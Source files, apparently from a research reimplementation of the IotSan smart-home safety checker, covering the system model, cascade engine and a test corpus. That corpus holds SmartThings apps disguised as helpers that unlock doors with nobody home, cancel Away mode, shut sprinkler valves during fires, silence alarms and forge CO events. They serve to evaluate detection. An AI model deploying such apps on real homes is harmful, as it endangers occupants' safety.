      for (const std::string& id : binding.device_ids) {
        const int index = DeviceIndex(id);
        if (index < 0) {
          throw ConfigError("app '" + label + "': input '" + input.name +
                            "' binds unknown device '" + id + "'");
        }
        if (!devices_[index].type().HasCapability(capability)) {
          throw ConfigError("app '" + label + "': device '" + id +
                            "' lacks capability '" + capability +
                            "' required by input '" + input.name + "'");
        }
        devices_list.push_back(Value::Device(index));
      }
      if (!input.multiple && devices_list.size() > 1) {
        throw ConfigError("app '" + label + "': input '" + input.name +
                          "' accepts a single device but " +
                          std::to_string(devices_list.size()) +
                          " were configured");
      }
      if (input.multiple) {
        app.bindings[input.name] = Value::List(std::move(devices_list));
      } else {
        app.bindings[input.name] = devices_list.front();
      }
      continue;
    }

    if (binding.number.has_value()) {
      app.bindings[input.name] = Value::Number(*binding.number);
    } else if (binding.text.has_value()) {
      app.bindings[input.name] = Value::String(*binding.text);
    } else if (binding.flag.has_value()) {
      app.bindings[input.name] = Value::Bool(*binding.flag);
    } else {
      throw ConfigError("app '" + label + "': input '" + input.name +
                        "' has an incompatible binding");
    }
  }
}

void SystemModel::ResolveSubscriptions() {
  for (std::size_t a = 0; a < apps_.size(); ++a) {
    const InstalledApp& app = apps_[a];
    for (const ir::Subscription& sub : app.analysis.subscriptions) {
      ResolvedSubscription resolved;
      resolved.scope = sub.scope;
      resolved.app = static_cast<int>(a);
      resolved.handler = sub.handler;

      switch (sub.scope) {
        case ir::EventScope::kAppTouch:
          subscriptions_.push_back(resolved);
          break;
        case ir::EventScope::kLocationMode: {
          if (!sub.value.empty()) {
            resolved.mode = deployment_.ModeIndex(sub.value);
          }
          subscriptions_.push_back(resolved);
          break;
        }
        case ir::EventScope::kDevice: {
          auto binding = app.bindings.find(sub.input);
          if (binding == app.bindings.end()) break;
          ValueList targets;
          if (binding->second.is_device()) {
            targets.push_back(binding->second);
          } else if (binding->second.is_list()) {
            targets = binding->second.AsList();
          } else {
            break;  // unbound optional input: no subscription
          }
          for (const Value& target : targets) {
            if (!target.is_device()) continue;
            const devices::Device& device = devices_[target.DeviceIndex()];
            const int attr_index = device.AttributeIndex(sub.attribute);
            if (attr_index < 0) {
              throw ConfigError(
                  "app '" + app.config.label + "' subscribes to attribute '" +
                  sub.attribute + "' which device '" + device.id() +
                  "' does not have");
            }
            ResolvedSubscription per_device = resolved;
            per_device.device = target.DeviceIndex();
            per_device.attribute = attr_index;
            if (!sub.value.empty()) {
              per_device.value =
                  device.attributes()[attr_index]->IndexOfValue(sub.value);
            }
            subscriptions_.push_back(per_device);
          }
          break;
        }
        case ir::EventScope::kTime:
          break;  // schedules handled separately
      }
    }
  }
}

std::vector<const ResolvedSubscription*> SystemModel::Subscribers(
    const devices::Event& event) const {
  std::vector<const ResolvedSubscription*> out;
  for (const ResolvedSubscription& sub : subscriptions_) {
    switch (event.source) {
      case devices::EventSource::kDevice:
        if (sub.scope != ir::EventScope::kDevice) continue;
        if (sub.device != event.device || sub.attribute != event.attribute) {
          continue;
        }
        if (sub.value >= 0 && sub.value != event.value) continue;
        out.push_back(&sub);
        break;
      case devices::EventSource::kLocationMode:
        if (sub.scope != ir::EventScope::kLocationMode) continue;
        if (sub.mode >= 0 && sub.mode != event.value) continue;
        out.push_back(&sub);
        break;
      case devices::EventSource::kAppTouch:
        if (sub.scope != ir::EventScope::kAppTouch) continue;
        if (sub.app != event.app) continue;
        out.push_back(&sub);
        break;
      case devices::EventSource::kTimer:
        break;  // timers dispatch directly to their handler
    }
  }
  return out;
}

SystemState SystemModel::MakeInitialState() const {
  SystemState state;
  state.devices.reserve(devices_.size());
  for (const devices::Device& device : devices_) {
    state.devices.push_back(device.MakeInitialState());
  }
  state.mode = 0;
  state.app_state.resize(apps_.size());
  return state;
}

void SystemModel::BuildExternalEvents() {
  // Sensor events: the (device, attribute) pairs observed by installed
  // apps (through subscriptions or state reads).  This is the §5/§8
  // permutation space; attributes no app can see cannot influence the
  // system and are omitted.  With all_sensor_events, every sensor
  // attribute of every device is enumerated instead (§9 attribution).
  std::set<std::pair<int, int>> observed;
  if (options_.all_sensor_events) {
    for (std::size_t d = 0; d < devices_.size(); ++d) {
      const auto& attrs = devices_[d].attributes();
      for (std::size_t a = 0; a < attrs.size(); ++a) {
        observed.insert({static_cast<int>(d), static_cast<int>(a)});
      }
    }
  }
  for (const ResolvedSubscription& sub : subscriptions_) {
    if (sub.scope == ir::EventScope::kDevice) {
      observed.insert({sub.device, sub.attribute});
    }
  }
  // State reads from handler summaries, resolved through bindings.
  for (const InstalledApp& app : apps_) {
    for (const ir::HandlerInfo& handler : app.analysis.handlers) {
      for (const ir::EventPattern& in : handler.inputs) {
        if (in.scope != ir::EventScope::kDevice || in.input.empty()) continue;
        auto binding = app.bindings.find(in.input);
        if (binding == app.bindings.end()) continue;
        ValueList targets;
        if (binding->second.is_device()) {
          targets.push_back(binding->second);
        } else if (binding->second.is_list()) {
          targets = binding->second.AsList();
        }
        for (const Value& target : targets) {
          if (!target.is_device()) continue;
          const int device = target.DeviceIndex();
          const int attr = devices_[device].AttributeIndex(in.attribute);
          if (attr >= 0) observed.insert({device, attr});
        }
      }
    }
  }

  const auto& registry = devices::CapabilityRegistry::Instance();
  for (const auto& [device, attr] : observed) {
    // Only environment-driven (sensor) attributes are external inputs;
    // actuator attributes change via commands.
    const devices::AttributeSpec* spec = devices_[device].attributes()[attr];
    bool is_sensor_attr = false;
    for (const std::string& cap_name : devices_[device].type().capabilities) {
      const devices::CapabilitySpec* cap = registry.Find(cap_name);
      if (cap != nullptr && cap->sensor && cap->FindAttribute(spec->name)) {
        is_sensor_attr = true;
        break;
      }
    }
    if (!is_sensor_attr) continue;
    ExternalEventSpec event;
    event.kind = ExternalEventSpec::Kind::kSensor;
    event.device = device;
    event.attribute = attr;
    external_events_.push_back(event);
  }

  for (std::size_t a = 0; a < apps_.size(); ++a) {
    if (apps_[a].touchable) {
      ExternalEventSpec event;
      event.kind = ExternalEventSpec::Kind::kAppTouch;
      event.app = static_cast<int>(a);
      external_events_.push_back(event);
    }
  }

  // One timer-tick event: fires pending runIn timers and recurring
  // schedules (system time is monotonic; a tick advances it past the next
  // deadline, §8).
  bool has_schedules = false;
  for (const InstalledApp& app : apps_) {
    has_schedules = has_schedules || !app.analysis.schedules.empty();
  }
  if (has_schedules) {
    ExternalEventSpec event;
    event.kind = ExternalEventSpec::Kind::kTimerTick;
    external_events_.push_back(event);
  }

  // User-initiated mode switches via the companion app.
  if (options_.user_mode_events) {
    bool mode_observed = false;
    for (const ResolvedSubscription& sub : subscriptions_) {
      mode_observed =
          mode_observed || sub.scope == ir::EventScope::kLocationMode;
    }
    if (mode_observed) {
      ExternalEventSpec event;
      event.kind = ExternalEventSpec::Kind::kUserModeChange;
      external_events_.push_back(event);
    }
  }
}

int SystemModel::SelectProperties(
    const std::vector<props::Property>& properties) {
  active_properties_.clear();
  int invariants = 0;
  for (const props::Property& property : properties) {
    // Applicable when every universally-quantified role is present (all()
    // over an empty set is vacuously true -> spurious violations) and at
    // least one referenced role exists at all (otherwise the property is
    // about devices this home does not have).
    bool applicable = true;
    for (const std::string& role : property.universal_roles) {
      if (deployment_.DevicesWithRole(role).empty()) {
        applicable = false;
        break;
      }
    }
    if (applicable && !property.roles.empty()) {
      bool any_role_present = false;
      for (const std::string& role : property.roles) {
        any_role_present =
            any_role_present || !deployment_.DevicesWithRole(role).empty();
      }
      applicable = any_role_present;
    }
    if (!applicable) continue;
    active_properties_.push_back(property);
    if (property.kind == props::PropertyKind::kInvariant) ++invariants;
  }
  return invariants;
}

int SystemModel::TotalHandlerCount() const {
  int count = 0;
  for (const InstalledApp& app : apps_) {
    count += static_cast<int>(app.analysis.handlers.size());
  }
  return count;
}

}  // namespace iotsan::model
