// Adapts (SystemModel, SystemState) to the property evaluator's StateView.
#pragma once

#include "model/state.hpp"
#include "model/system_model.hpp"
#include "props/eval.hpp"

namespace iotsan::model {

class ModelStateView final : public props::StateView {
 public:
  ModelStateView(const SystemModel& model, const SystemState& state)
      : model_(model), state_(state) {}

  std::vector<int> DevicesWithRole(const std::string& role) const override;
  std::optional<std::string> AttributeValue(
      int device, const std::string& attr) const override;
  std::optional<double> NumericValue(int device,
                                     const std::string& attr) const override;
  std::string LocationMode() const override;
  bool DeviceOnline(int device) const override;

 private:
  const SystemModel& model_;
  const SystemState& state_;
};

}  // namespace iotsan::model
