#include "model/value.hpp"

#include "util/strings.hpp"

namespace iotsan::model {

Value Value::Bool(bool b) {
  Value v;
  v.kind_ = Kind::kBool;
  v.bool_ = b;
  return v;
}

Value Value::Number(double n) {
  Value v;
  v.kind_ = Kind::kNumber;
  v.number_ = n;
  return v;
}

Value Value::String(std::string s) {
  Value v;
  v.kind_ = Kind::kString;
  v.string_ = std::move(s);
  return v;
}

Value Value::Device(int index) {
  Value v;
  v.kind_ = Kind::kDevice;
  v.device_ = index;
  return v;
}

Value Value::List(ValueList items) {
  Value v;
  v.kind_ = Kind::kList;
  v.list_ = std::make_shared<ValueList>(std::move(items));
  return v;
}

Value Value::Map(ValueMap entries) {
  Value v;
  v.kind_ = Kind::kMap;
  v.map_ = std::make_shared<ValueMap>(std::move(entries));
  return v;
}

Value Value::Closure(const dsl::Expr* closure) {
  Value v;
  v.kind_ = Kind::kClosure;
  v.closure_ = closure;
  return v;
}

bool Value::Truthy() const {
  switch (kind_) {
    case Kind::kNull: return false;
    case Kind::kBool: return bool_;
    case Kind::kNumber: return number_ != 0;
    case Kind::kString: return !string_.empty();
    case Kind::kDevice: return device_ >= 0;
    case Kind::kList: return !list_->empty();
    case Kind::kMap: return !map_->empty();
    case Kind::kClosure: return true;
  }
  return false;
}

bool Value::Equals(const Value& other) const {
  if (kind_ == Kind::kNull || other.kind_ == Kind::kNull) {
    return kind_ == other.kind_;
  }
  if (kind_ == Kind::kNumber && other.kind_ == Kind::kNumber) {
    return number_ == other.number_;
  }
  if (kind_ != other.kind_) return false;
  switch (kind_) {
    case Kind::kBool: return bool_ == other.bool_;
    case Kind::kString: return string_ == other.string_;
    case Kind::kDevice: return device_ == other.device_;
    case Kind::kList: {
      if (list_->size() != other.list_->size()) return false;
      for (std::size_t i = 0; i < list_->size(); ++i) {
        if (!(*list_)[i].Equals((*other.list_)[i])) return false;
      }
      return true;
    }
    case Kind::kMap: {
      if (map_->size() != other.map_->size()) return false;
      for (const auto& [key, value] : *map_) {
        auto it = other.map_->find(key);
        if (it == other.map_->end() || !value.Equals(it->second)) {
          return false;
        }
      }
      return true;
    }
    default:
      return false;
  }
}

std::string Value::ToDisplayString() const {
  switch (kind_) {
    case Kind::kNull: return "null";
    case Kind::kBool: return bool_ ? "true" : "false";
    case Kind::kNumber: return strings::FormatNumber(number_);
    case Kind::kString: return string_;
    case Kind::kDevice: return "<device " + std::to_string(device_) + ">";
    case Kind::kList: {
      std::string out = "[";
      for (std::size_t i = 0; i < list_->size(); ++i) {
        if (i > 0) out += ", ";
        out += (*list_)[i].ToDisplayString();
      }
      return out + "]";
    }
    case Kind::kMap: {
      std::string out = "[";
      bool first = true;
      for (const auto& [key, value] : *map_) {
        if (!first) out += ", ";
        first = false;
        out += key + ": " + value.ToDisplayString();
      }
      return out + "]";
    }
    case Kind::kClosure: return "<closure>";
  }
  return "?";
}

}  // namespace iotsan::model
