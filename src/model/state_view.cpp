#include "model/state_view.hpp"

namespace iotsan::model {

std::vector<int> ModelStateView::DevicesWithRole(
    const std::string& role) const {
  std::vector<int> out;
  for (std::size_t i = 0; i < model_.devices().size(); ++i) {
    if (model_.devices()[i].HasRole(role)) out.push_back(static_cast<int>(i));
  }
  return out;
}

// Safety properties are statements about the *physical* space (§3), so
// both readers evaluate the physical ground truth; it diverges from the
// cyber reading only when a failure made a sensor miss an event.

std::optional<std::string> ModelStateView::AttributeValue(
    int device, const std::string& attr) const {
  const devices::Device& dev = model_.devices()[device];
  const int index = dev.AttributeIndex(attr);
  if (index < 0) return std::nullopt;
  return dev.attributes()[index]->ValueName(
      state_.devices[device].physical[index]);
}

std::optional<double> ModelStateView::NumericValue(
    int device, const std::string& attr) const {
  const devices::Device& dev = model_.devices()[device];
  const int index = dev.AttributeIndex(attr);
  if (index < 0) return std::nullopt;
  const devices::AttributeSpec& spec = *dev.attributes()[index];
  if (spec.kind != devices::AttributeKind::kNumeric) return std::nullopt;
  return spec.NumericAt(state_.devices[device].physical[index]);
}

std::string ModelStateView::LocationMode() const {
  return model_.modes()[state_.mode];
}

bool ModelStateView::DeviceOnline(int device) const {
  return state_.devices[device].online;
}

}  // namespace iotsan::model
