#include "model/engine.hpp"

#include <algorithm>

#include "model/footprint.hpp"
#include "telemetry/telemetry.hpp"

namespace iotsan::model {

std::string ExternalEvent::Describe(const SystemModel& model) const {
  switch (kind) {
    case ExternalEventSpec::Kind::kSensor: {
      const devices::Device& dev = model.devices()[device];
      const devices::AttributeSpec& attr = *dev.attributes()[attribute];
      return dev.id() + ": " + attr.name + "/" + attr.ValueName(value);
    }
    case ExternalEventSpec::Kind::kAppTouch:
      return "app touch: " + model.apps()[app].config.label;
    case ExternalEventSpec::Kind::kTimerTick:
      return "timer tick";
    case ExternalEventSpec::Kind::kUserModeChange:
      return "user sets mode " + model.modes()[value];
  }
  return "?";
}

std::vector<ExternalEvent> CascadeEngine::EnabledEvents(
    const SystemState& state) const {
  std::vector<ExternalEvent> events;
  for (const ExternalEventSpec& spec : model_.external_events()) {
    switch (spec.kind) {
      case ExternalEventSpec::Kind::kSensor: {
        const devices::Device& device = model_.devices()[spec.device];
        const devices::AttributeSpec& attr =
            *device.attributes()[spec.attribute];
        const int current =
            state.devices[spec.device].physical[spec.attribute];
        for (int v = 0; v < attr.domain_size(); ++v) {
          if (v == current) continue;  // Algorithm 1, line 8: no-op events
          ExternalEvent event;
          event.kind = spec.kind;
          event.device = spec.device;
          event.attribute = spec.attribute;
          event.value = v;
          events.push_back(event);
        }
        break;
      }
      case ExternalEventSpec::Kind::kAppTouch: {
        ExternalEvent event;
        event.kind = spec.kind;
        event.app = spec.app;
        events.push_back(event);
        break;
      }
      case ExternalEventSpec::Kind::kTimerTick: {
        // A tick is enabled when a one-shot timer is pending or any app
        // has a recurring schedule.
        bool enabled = !state.timers.empty();
        for (const InstalledApp& app : model_.apps()) {
          for (const ir::ScheduleInfo& schedule : app.analysis.schedules) {
            enabled = enabled || schedule.recurring;
          }
        }
        if (enabled) {
          ExternalEvent event;
          event.kind = spec.kind;
          events.push_back(event);
        }
        break;
      }
      case ExternalEventSpec::Kind::kUserModeChange: {
        for (std::size_t m = 0; m < model_.modes().size(); ++m) {
          if (static_cast<int>(m) == state.mode) continue;
          ExternalEvent event;
          event.kind = spec.kind;
          event.value = static_cast<int>(m);
          events.push_back(event);
        }
        break;
      }
    }
  }
  return events;
}

void CascadeEngine::InjectExternal(SystemState& state,
                                   const ExternalEvent& event,
                                   const FailureScenario& failure,
                                   std::deque<devices::Event>& queue,
                                   CascadeLog& log) const {
  if (auto* t = telemetry::Active()) ++t->search.events_injected;
  switch (event.kind) {
    case ExternalEventSpec::Kind::kSensor: {
      const devices::Device& device = model_.devices()[event.device];
      const devices::AttributeSpec& attr =
          *device.attributes()[event.attribute];
      // The physical world changes regardless of sensor availability.
      if (state.devices[event.device].physical[event.attribute] ==
          event.value) {
        return;
      }
      state.devices[event.device].physical[event.attribute] =
          static_cast<std::int16_t>(event.value);
      if (failure.sensor_offline) {
        // The physical event happened but the sensor cannot report it:
        // no cyber event is generated, and the cyber reading goes stale
        // (paper §8 failure model, Fig. 8b).
        log.trace.push_back("-- sensor " + device.id() +
                            " offline: physical event " + attr.name + "/" +
                            attr.ValueName(event.value) + " missed");
        return;
      }
      // sensor_state_update (Algorithm 1, lines 8-12).
      state.devices[event.device].values[event.attribute] =
          static_cast<std::int16_t>(event.value);
      devices::Event cyber;
      cyber.source = devices::EventSource::kDevice;
      cyber.device = event.device;
      cyber.attribute = event.attribute;
      cyber.value = event.value;
      queue.push_back(cyber);
      log.trace.push_back("generatedEvent.evtType = " +
                          attr.ValueName(event.value) + " (" + device.id() +
                          "/" + attr.name + ")");
      break;
    }
    case ExternalEventSpec::Kind::kAppTouch: {
      devices::Event cyber;
      cyber.source = devices::EventSource::kAppTouch;
      cyber.app = event.app;
      queue.push_back(cyber);
      log.trace.push_back("app touch: " +
                          model_.apps()[event.app].config.label);
      break;
    }
    case ExternalEventSpec::Kind::kTimerTick: {
      // Fire pending one-shot timers; when none are pending, fire the
      // recurring schedules (system time advanced past their deadline).
      if (!state.timers.empty()) {
        std::vector<TimerEntry> firing = state.timers;
        state.timers.clear();
        for (const TimerEntry& timer : firing) {
          devices::Event cyber;
          cyber.source = devices::EventSource::kTimer;
          cyber.app = timer.app;
          cyber.timer = timer.schedule;
          queue.push_back(cyber);
        }
      } else {
        for (std::size_t a = 0; a < model_.apps().size(); ++a) {
          const auto& schedules = model_.apps()[a].analysis.schedules;
          for (std::size_t s = 0; s < schedules.size(); ++s) {
            if (!schedules[s].recurring) continue;
            devices::Event cyber;
            cyber.source = devices::EventSource::kTimer;
            cyber.app = static_cast<int>(a);
            cyber.timer = static_cast<int>(s);
            queue.push_back(cyber);
          }
        }
      }
      log.trace.push_back("timer tick");
      break;
    }
    case ExternalEventSpec::Kind::kUserModeChange: {
      if (state.mode == event.value) break;
      state.mode = static_cast<std::int16_t>(event.value);
      devices::Event cyber;
      cyber.source = devices::EventSource::kLocationMode;
      cyber.value = event.value;
      queue.push_back(cyber);
      log.trace.push_back("user sets location.mode = " +
                          model_.modes()[event.value]);
      break;
    }
  }
}

void CascadeEngine::DispatchOne(SystemState& state,
                                const devices::Event& event,
                                std::deque<devices::Event>& queue,
                                CascadeLog& log,
                                const FailureScenario& failure) const {
  if (auto* t = telemetry::Active()) ++t->search.handler_dispatches;
  Evaluator evaluator(model_, state, queue, log, failure);
  if (event.source == devices::EventSource::kTimer) {
    const InstalledApp& app = model_.apps()[event.app];
    const ir::ScheduleInfo& schedule = app.analysis.schedules[event.timer];
    log.trace.push_back("dispatch timer -> " + app.config.label + "." +
                        schedule.handler);
    log.dispatches.push_back({event.app, schedule.handler});
    evaluator.InvokeHandler(event.app, schedule.handler, &event);
    return;
  }
  for (const ResolvedSubscription* sub : model_.Subscribers(event)) {
    std::string description;
    if (event.source == devices::EventSource::kDevice) {
      description =
          devices::DescribeDeviceEvent(model_.devices()[event.device], event);
    } else if (event.source == devices::EventSource::kLocationMode) {
      description = "location/" + model_.modes()[event.value];
    } else {
      description = "app/touch";
    }
    log.trace.push_back("dispatch " + description + " -> " +
                        model_.apps()[sub->app].config.label + "." +
                        sub->handler);
    log.dispatches.push_back({sub->app, sub->handler});
    evaluator.InvokeHandler(sub->app, sub->handler, &event);
  }
}

void CascadeEngine::RunSequential(SystemState& state,
                                  std::deque<devices::Event>& queue,
                                  CascadeLog& log,
                                  const FailureScenario& failure,
                                  const CancelFn& cancel) const {
  int processed = 0;
  while (!queue.empty()) {
    log.max_queue_depth =
        std::max(log.max_queue_depth, static_cast<int>(queue.size()));
    if (++processed > kCascadeBound) {
      log.truncated = true;
      break;
    }
    if (cancel && cancel()) {
      log.truncated = true;
      break;
    }
    devices::Event event = queue.front();
    queue.pop_front();
    DispatchOne(state, event, queue, log, failure);
  }
}

void CascadeEngine::RunConcurrent(const SystemState& state,
                                  const std::deque<devices::Event>& queue,
                                  const CascadeLog& log,
                                  const FailureScenario& failure, int depth,
                                  std::vector<StepOutcome>& outcomes,
                                  const CancelFn& cancel) const {
  if (static_cast<int>(outcomes.size()) >= kMaxInterleavings) return;
  if (cancel && cancel()) return;
  if (queue.empty() || depth > kCascadeBound) {
    StepOutcome outcome;
    outcome.state = state;
    outcome.log = log;
    outcome.log.truncated = outcome.log.truncated || depth > kCascadeBound;
    outcomes.push_back(std::move(outcome));
    return;
  }
  // Choose which pending event is delivered next: all orders explored,
  // unless partial-order reduction proves a singleton ample set.
  std::size_t pick_begin = 0;
  std::size_t pick_end = queue.size();
  if (footprints_ && queue.size() > 1) {
    FootprintIndex::Fallback reason = FootprintIndex::Fallback::kNone;
    const int ample =
        footprints_->PickAmple(queue, depth, kCascadeBound, reason);
    if (auto* t = telemetry::Active()) {
      if (ample >= 0) {
        t->por.ample_singletons.fetch_add(1, std::memory_order_relaxed);
        t->por.interleavings_pruned.fetch_add(queue.size() - 1,
                                              std::memory_order_relaxed);
      } else {
        t->por.full_expansions.fetch_add(1, std::memory_order_relaxed);
        switch (reason) {
          case FootprintIndex::Fallback::kUnknown:
            t->por.fallback_unknown.fetch_add(1, std::memory_order_relaxed);
            break;
          case FootprintIndex::Fallback::kVisible:
            t->por.fallback_visible.fetch_add(1, std::memory_order_relaxed);
            break;
          case FootprintIndex::Fallback::kConflict:
            t->por.fallback_conflict.fetch_add(1, std::memory_order_relaxed);
            break;
          case FootprintIndex::Fallback::kDepth:
            t->por.fallback_depth.fetch_add(1, std::memory_order_relaxed);
            break;
          case FootprintIndex::Fallback::kNone:
            break;
        }
      }
    }
    if (ample >= 0) {
      pick_begin = static_cast<std::size_t>(ample);
      pick_end = pick_begin + 1;
    }
  }
  for (std::size_t pick = pick_begin; pick < pick_end; ++pick) {
    SystemState next_state = state;
    CascadeLog next_log = log;
    std::deque<devices::Event> next_queue = queue;
    next_log.max_queue_depth = std::max(next_log.max_queue_depth,
                                        static_cast<int>(queue.size()));
    devices::Event event = next_queue[pick];
    next_queue.erase(next_queue.begin() + static_cast<long>(pick));
    DispatchOne(next_state, event, next_queue, next_log, failure);
    RunConcurrent(next_state, next_queue, next_log, failure, depth + 1,
                  outcomes, cancel);
  }
}

std::vector<StepOutcome> CascadeEngine::Apply(
    const SystemState& from, const ExternalEvent& event,
    const FailureScenario& failure, Scheduling scheduling,
    const CancelFn& cancel) const {
  SystemState state = from;
  std::deque<devices::Event> queue;
  CascadeLog log;
  InjectExternal(state, event, failure, queue, log);
  log.max_queue_depth = static_cast<int>(queue.size());

  if (scheduling == Scheduling::kSequential) {
    RunSequential(state, queue, log, failure, cancel);
    std::vector<StepOutcome> outcomes;
    outcomes.push_back({std::move(state), std::move(log)});
    return outcomes;
  }
  std::vector<StepOutcome> outcomes;
  RunConcurrent(state, queue, log, failure, 0, outcomes, cancel);
  return outcomes;
}

}  // namespace iotsan::model
