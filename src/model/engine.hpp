// Cascade engine: applies one external event to a system state and
// drains the resulting chain of cyber events (paper Fig. 2, Algorithm 1).
//
// Two scheduling designs are implemented, matching the paper's §8
// "Concurrency Model" discussion:
//   * kSequential — the internal events triggered by an external event
//     are handled atomically in FIFO order; the checker then only
//     permutes *external* events (weak concurrency).  One outcome per
//     (state, event, failure).
//   * kConcurrent — every interleaving of the pending internal events is
//     explored (strict concurrency).  The outcome count grows
//     factorially; this design exists to reproduce Table 7b.
#pragma once

#include <functional>
#include <string>
#include <vector>

#include "model/evaluator.hpp"
#include "model/runtime.hpp"
#include "model/state.hpp"
#include "model/system_model.hpp"

namespace iotsan::model {

class FootprintIndex;

enum class Scheduling { kSequential, kConcurrent };

/// One concrete external event chosen from the permutation space.
struct ExternalEvent {
  ExternalEventSpec::Kind kind = ExternalEventSpec::Kind::kSensor;
  int device = -1;     // kSensor
  int attribute = -1;  // kSensor
  int value = -1;      // kSensor: target value index
  int app = -1;        // kAppTouch

  /// "alicePresence: presence/notpresent" rendering.
  std::string Describe(const SystemModel& model) const;
};

/// The result of processing one external event to quiescence.
struct StepOutcome {
  SystemState state;
  CascadeLog log;
};

/// Cooperative cancellation: polled between cascade drains (and between
/// dispatches within a drain) so wall-clock budgets hold even when a
/// single external event fans out into a huge interleaving space.
using CancelFn = std::function<bool()>;

class CascadeEngine {
 public:
  /// When `footprints` is non-null, concurrent scheduling applies
  /// ample-set partial-order reduction: a pending event whose dispatch
  /// commutes with all other pending dispatches (and their trigger
  /// cones) is expanded alone instead of fanning out the full
  /// interleaving set.  Sequential scheduling ignores it.
  explicit CascadeEngine(const SystemModel& model,
                         const FootprintIndex* footprints = nullptr)
      : model_(model), footprints_(footprints) {}

  /// Applies `event` under `failure` starting from `from`.  Sequential
  /// scheduling returns exactly one outcome; concurrent scheduling one
  /// outcome per internal-event interleaving (bounded by
  /// `max_interleavings`).  When `cancel` is set and returns true the
  /// enumeration stops early; already-drained outcomes are returned and
  /// the caller decides what to do with the partial set.
  std::vector<StepOutcome> Apply(const SystemState& from,
                                 const ExternalEvent& event,
                                 const FailureScenario& failure,
                                 Scheduling scheduling,
                                 const CancelFn& cancel = {}) const;

  /// All concrete external events enabled in `state`: every sensor
  /// (device, attribute, value != current), app touches, and a timer tick
  /// when timers/schedules are pending.
  std::vector<ExternalEvent> EnabledEvents(const SystemState& state) const;

  /// Internal events processed per cascade before it is cut off (guards
  /// against app ping-pong loops).
  static constexpr int kCascadeBound = 128;
  /// Cap on interleavings per step in concurrent mode.
  static constexpr int kMaxInterleavings = 100000;

 private:
  const SystemModel& model_;
  const FootprintIndex* footprints_ = nullptr;

  void InjectExternal(SystemState& state, const ExternalEvent& event,
                      const FailureScenario& failure,
                      std::deque<devices::Event>& queue,
                      CascadeLog& log) const;
  void DispatchOne(SystemState& state, const devices::Event& event,
                   std::deque<devices::Event>& queue, CascadeLog& log,
                   const FailureScenario& failure) const;
  void RunSequential(SystemState& state, std::deque<devices::Event>& queue,
                     CascadeLog& log, const FailureScenario& failure,
                     const CancelFn& cancel) const;
  void RunConcurrent(const SystemState& state,
                     const std::deque<devices::Event>& queue,
                     const CascadeLog& log, const FailureScenario& failure,
                     int depth, std::vector<StepOutcome>& outcomes,
                     const CancelFn& cancel) const;
};

}  // namespace iotsan::model
