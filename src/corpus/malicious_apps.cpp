// ContexIoT-style malicious apps (paper §10.1/§10.3, from [52]).
//
// Nine apps affect the physical state or leak information and are used to
// evaluate the attribution module; four more discover devices dynamically
// and must be rejected by IotSan (it "cannot currently handle" them).
// Each app masquerades as a convenience app — the attack is in the
// handler bodies.
#include "corpus/market_apps.hpp"

namespace iotsan::corpus {

std::vector<CorpusApp> MaliciousAppsPart() {
  std::vector<CorpusApp> apps;
  auto add = [&apps](std::string name, std::string source) {
    apps.push_back({std::move(name), AppKind::kMalicious, std::move(source)});
  };

  // 1. Unlocks the door whenever everyone has left (break-in enabler).
  add("Sneaky Door Helper", R"APP(
definition(name: "Sneaky Door Helper", namespace: "iotsan.attack",
    author: "anonymous",
    description: "Keeps your door hardware healthy by exercising it periodically.")

preferences {
    section("Presence") {
        input "people", "capability.presenceSensor", title: "Presence sensors", multiple: true
    }
    section("Door lock") {
        input "lock1", "capability.lock", title: "Lock"
    }
}

def installed() {
    subscribe(people, "presence.notpresent", exerciseHandler)
}

def exerciseHandler(evt) {
    def anyoneHome = people.find { it.currentPresence == "present" }
    if (anyoneHome == null) {
        // "Exercise" the lock: leaves the door unlocked with nobody home.
        lock1.unlock()
    }
}
)APP");

  // 2. Disables vacation/away protection by resetting the mode.
  add("Vacation Mode Disabler", R"APP(
definition(name: "Vacation Mode Disabler", namespace: "iotsan.attack",
    author: "anonymous",
    description: "Smooths mode transitions for a better automation experience.")

preferences {
    section("Household") {
        input "people", "capability.presenceSensor", title: "Presence sensors", multiple: true
    }
}

def installed() {
    subscribe(location, "mode", modeHandler)
    subscribe(people, "presence.notpresent", departureHandler)
}

def modeHandler(evt) {
    if (evt.value == "Away") {
        // Silently cancels Away: security apps armed by mode never fire.
        setLocationMode("Home")
    }
}

def departureHandler(evt) {
    // "Pre-warms" the house shortly after everyone leaves — i.e. drops
    // the home out of its protective mode while it is empty.
    runIn(1800, comfortReset)
}

def comfortReset() {
    if (location.mode == "Away") {
        setLocationMode("Home")
    }
}
)APP");

  // 3. Shuts the fire-sprinkler water valve when smoke is detected
  //    (the paper names exactly this behaviour in §10.3).
  add("Water Valve Helper", R"APP(
definition(name: "Water Valve Helper", namespace: "iotsan.attack",
    author: "anonymous",
    description: "Protects your plumbing by managing the main water valve.")

preferences {
    section("Smoke detector") {
        input "smoke1", "capability.smokeDetector", title: "Smoke detector"
    }
    section("Water valve") {
        input "valve1", "capability.valve", title: "Valve"
    }
}

def installed() {
    subscribe(smoke1, "smoke.detected", smokeHandler)
}

def smokeHandler(evt) {
    // Cuts water to the fire sprinkler during a fire.
    valve1.close()
}
)APP");

  // 4. Silences the siren moments after it starts.
  add("Alarm Silencer", R"APP(
definition(name: "Alarm Silencer", namespace: "iotsan.attack",
    author: "anonymous",
    description: "Prevents alarm fatigue by deduplicating siren activations.")

preferences {
    section("Alarms") {
        input "alarms", "capability.alarm", title: "Alarms", multiple: true
    }
    section("Context (to tell real alarms apart)") {
        input "smoke1", "capability.smokeDetector", title: "Smoke detector"
    }
}

def installed() {
    subscribe(alarms, "alarm", alarmHandler)
    subscribe(smoke1, "smoke", smokeHandler)
}

def alarmHandler(evt) {
    if (evt.value != "off") {
        // Silences every activation, emergency or not.
        alarms.off()
    }
}

def smokeHandler(evt) {
    log.debug "smoke is ${evt.value}"
}
)APP");

  // 5. Injects a fake carbon monoxide event (the ContexIoT fake-event
  //    attack the paper attributes via the security-sensitive-command
  //    property).
  add("CO Tester", R"APP(
definition(name: "CO Tester", namespace: "iotsan.attack",
    author: "anonymous",
    description: "Periodically self-tests your CO detectors.")

preferences {
    section("Test when this button is pressed") {
        input "trigger", "capability.button", title: "Button"
    }
}

def installed() {
    subscribe(trigger, "button.pushed", testHandler)
}

def testHandler(evt) {
    // Forges a detection event: apps reacting to CO (unlock doors, open
    // windows) fire with no physical cause.
    sendEvent(name: "carbonMonoxide", value: "detected")
}
)APP");

  // 6. Disables its own (and advertised) safety monitoring.
  add("Battery Saver Plus", R"APP(
definition(name: "Battery Saver Plus", namespace: "iotsan.attack",
    author: "anonymous",
    description: "Extends sensor battery life by throttling event processing.")

preferences {
    section("Managed sensors") {
